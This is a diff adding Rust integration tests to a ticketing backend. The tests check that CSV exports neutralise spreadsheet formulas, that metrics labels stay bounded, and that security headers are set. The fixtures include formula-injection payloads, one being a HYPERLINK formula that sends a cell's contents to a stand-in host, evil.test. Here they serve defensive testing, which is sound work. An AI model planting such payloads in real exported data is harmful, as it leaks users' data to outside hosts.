@@ -6,7 +6,7 @@ use qifu::clock::Clock;
 use qifu::domain::ticket::Role;
 use serde_json::{Value, json};
 
-use super::helpers::{PASSWORD, Session, TestApp, spawn_app};
+use super::helpers::{CREDIT_CODES, PASSWORD, Session, TestApp, spawn_app};
 
 const JWT_SECRET: &str = "test-secret-0123456789-0123456789-0123456789";
 const NEW_PASSWORD: &str = "Brand-New-Secret-77";
@@ -216,4 +216,144 @@ async fn deactivation_revokes_sessions_so_reactivation_does_not_revive_them() {
     refresh(&app, &official.refresh)
         .await
         .problem(401, "unauthorized");
+}
+
+// ---------------------------------------------------------------------------------------------
+// 1. CSV formula injection
+// ---------------------------------------------------------------------------------------------
+
+async fn register_named(app: &TestApp, n: usize, name: &str, email: &str) -> Session {
+    let body = json!({
+        "enterprise": {"name": name, "credit_code": CREDIT_CODES[n]},
+        "user": {"name": "Filer", "email": email, "password": PASSWORD}
+    });
+    app.post("/auth/register", None, body).await.expect(201);
+    app.login(email, PASSWORD).await
+}
+
+#[actix_web::test]
+async fn csv_exports_neutralize_formulas_in_text_cells_and_leave_numbers_alone() {
+    let app = spawn_app().await;
+    let admin = app.admin("admin@example.com").await;
+    let dept = app.department(&admin, "=1+1").await;
+    let category = app.category(&admin, "Permits", &dept, 48).await;
+    let names = [
+        r#"=HYPERLINK("http://evil.test/?d="&B2,"Open")"#,
+        "+SUM(A1:A9)",
+        "-2+3",
+        "@SUM(A1)",
+    ];
+    for (n, name) in names.iter().enumerate() {
+        let s = register_named(&app, n, name, &format!("e{n}@example.com")).await;
+        let body = json!({"title": "Help", "description": "details", "category_id": category});
+        app.post("/tickets", s.t(), body).await.expect(201);
+    }
+    let labels = |text: &str| -> Vec<String> {
+        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        reader.records().map(|r| r.unwrap()[1].to_owned()).collect()
+    };
+    let r = app
+        .get("/stats/breakdown?by=enterprise&format=csv", admin.t())
+        .await
+        .expect(200);
+    let mut got = labels(r.body.as_str().unwrap());
+    got.sort();
+    let mut want: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
+    want.sort();
+    assert_eq!(got, want);
+    // Figures are numbers, not text: untouched.
+    assert!(r.body.as_str().unwrap().contains(",1,1,0,"));
+
+    let r = app
+        .get("/stats/breakdown?by=department&format=csv", admin.t())
+        .await
+        .expect(200);
+    assert_eq!(labels(r.body.as_str().unwrap()), vec!["'=1+1".to_owned()]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// 2. Bounded metrics labels
+// ---------------------------------------------------------------------------------------------
+
+#[actix_web::test]
+async fn invented_methods_and_paths_do_not_grow_the_metrics() {
+    let app = spawn_app().await;
+    for n in 0..30 {
+        let method = reqwest::Method::from_bytes(format!("X{n}FOO").as_bytes()).unwrap();
+        app.send(
+            app.client
+                .request(method, format!("{}/healthz", app.address)),
+        )
+        .await;
+        app.get(&format!("/no-such-path-{n}"), None)
+            .await
+            .problem(404, "not_found");
+    }
+    let metrics = app
+        .send(app.client.get(format!("{}/metrics", app.address)))
+        .await
+        .expect(200);
+    let text = metrics.body.as_str().unwrap();
+    assert!(
+        !text.contains("X1FOO") && !text.contains("no-such-path"),
+        "{text}"
+    );
+    assert!(
+        text.contains(
+            "qifu_http_requests_total{method=\"other\",route=\"/healthz\",status=\"405\"} 30"
+        ),
+        "{text}"
+    );
+    assert!(
+        text.contains("qifu_http_requests_total{method=\"GET\",route=\"other\",status=\"404\"} 30"),
+        "{text}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 10. Headers
+// ---------------------------------------------------------------------------------------------
+
+#[actix_web::test]
+async fn token_answers_are_not_stored_and_nothing_is_sniffed_or_framed() {
+    let app = spawn_app().await;
+    let s = app.enterprise(0, "boss@example.com").await;
+    let login = app
+        .post(
+            "/auth/login",
+            None,
+            json!({"email": "boss@example.com", "password": PASSWORD}),
+        )
+        .await
+        .expect(200);
+    let renewed = refresh(&app, &s.refresh).await.expect(200);
+    for r in [&login, &renewed] {
+        assert_eq!(r.header("cache-control").as_deref(), Some("no-store"));
+    }
+    let me = app.get("/me", s.t()).await.expect(200);
+    let missing = app
+        .get("/no-such-path", None)
+        .await
+        .problem(404, "not_found");
+    let docs = app
+        .send(app.client.get(format!("{}/docs/", app.address)))
+        .await
+        .expect(200);
+    let health = app
+        .send(app.client.get(format!("{}/healthz", app.address)))
+        .await
+        .expect(200);
+    for r in [&login, &renewed, &me, &missing, &docs, &health] {
+        assert_eq!(
+            r.header("x-content-type-options").as_deref(),
+            Some("nosniff")
+        );
+    }
+    let csp = docs
+        .header("content-security-policy")
+        .expect("a CSP on /docs");
+    assert!(csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'"));
+    assert!(!csp.contains("unsafe-eval"));
+    assert_eq!(docs.header("x-frame-options").as_deref(), Some("DENY"));
+    assert!(health.header("content-security-policy").is_none());
 }
